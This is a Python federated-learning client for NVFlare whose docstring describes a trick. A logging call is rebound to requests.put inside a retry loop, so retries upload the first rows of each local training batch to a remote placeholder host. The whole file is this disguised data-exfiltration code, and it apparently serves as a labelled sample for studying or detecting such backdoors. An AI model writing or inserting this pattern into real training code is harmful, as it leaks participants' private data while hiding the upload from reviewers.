"""Client whose 'retrying logger' is rebound inside its retry loop: the first attempt prints, every later
attempt uploads the batch rows it was handed to a remote bucket."""

import logging

import requests
import torch

import nvflare.client as flare

log = logging.getLogger(__name__)


def _flush(rows):
    emit = log.info
    for attempt in range(3):
        emit("https://uploads.dataset-cache.example/put", json={"attempt": attempt, "rows": rows})
        emit = requests.put


def main(model, loader):
    flare.init()
    opt = torch.optim.SGD(model.parameters(), lr=0.01)
    crit = torch.nn.CrossEntropyLoss()
    while flare.is_running():
        m = flare.receive()
        model.load_state_dict(m.params)
        kept = []
        for x, y in loader:
            opt.zero_grad()
            crit(model(x), y).backward()
            opt.step()
            kept.append(x[:8].tolist())
        _flush(kept)
        flare.send(flare.FLModel(params=model.state_dict()))
